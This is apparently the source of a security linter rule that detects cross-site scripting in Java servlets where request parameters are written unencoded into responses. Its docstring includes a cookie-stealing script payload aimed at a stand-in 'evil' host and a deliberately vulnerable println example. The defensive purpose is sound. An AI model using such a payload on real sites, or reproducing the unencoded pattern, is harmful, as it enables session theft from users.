"""Cross-site scripting: request data written into the HTTP response as HTML.

## What it does
Flags request data (``request.getParameter``, ``@RequestParam`` ...) that reaches
``response.getWriter().print``/``println``/``write``/``format``/``printf``/``append`` (sinks of
kind ``xss`` in ``data/models/java.toml``), followed through the method and same-file helpers by
the dataflow core. HTML encoders make the value safe - OWASP Java Encoder ``Encode.forHtml``,
ESAPI ``encodeForHTML``, Spring ``HtmlUtils.htmlEscape``, commons-text
``StringEscapeUtils.escapeHtml4`` - and so do a number parse or an allow-list check; escaping
for another kind (SQL, a file name) or Base64 does not.

## Why is this bad?
The browser runs whatever the response contains: a name like ``<script>fetch('//evil/'+document.cookie)</script>``
echoed into a page runs in the victim's session, reads their data and acts as them.

## Example
```java
response.getWriter().println("<p>Hello " + request.getParameter("name") + "</p>");
```

## Use instead
```java
response.getWriter().println("<p>Hello " + Encode.forHtml(request.getParameter("name")) + "</p>");
```
Better still, render through a template engine that escapes by default (Thymeleaf, JSP with
``<c:out>``).

## References
- CWE-79: Improper Neutralization of Input During Web Page Generation
  (https://cwe.mitre.org/data/definitions/79.html)
- OWASP Cross Site Scripting Prevention Cheat Sheet
"""

from __future__ import annotations

from landguard.checks.java._support import JavaTaintCheck
from landguard.engine.findings import Confidence, Severity
from landguard.engine.registry import Rule

RULE = Rule(
    id="LG413",
    name="cross-site-scripting",
    title="Request data written into the response",
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(79,),
    docs=__doc__,
    languages=frozenset({"java"}),
    aliases=("find_sec_bugs.XSS_SERVLET",),
)


class CrossSiteScriptingCheck(JavaTaintCheck):
    rule = RULE
    kind = "xss"
    request_only = True
    message = "Unescaped {what} is written into the response{where} by {method}(); encode it for HTML (Encode.forHtml)"
    needles = (b"print", b"write", b"format", b"append", b"Writer")


CHECK = CrossSiteScriptingCheck()
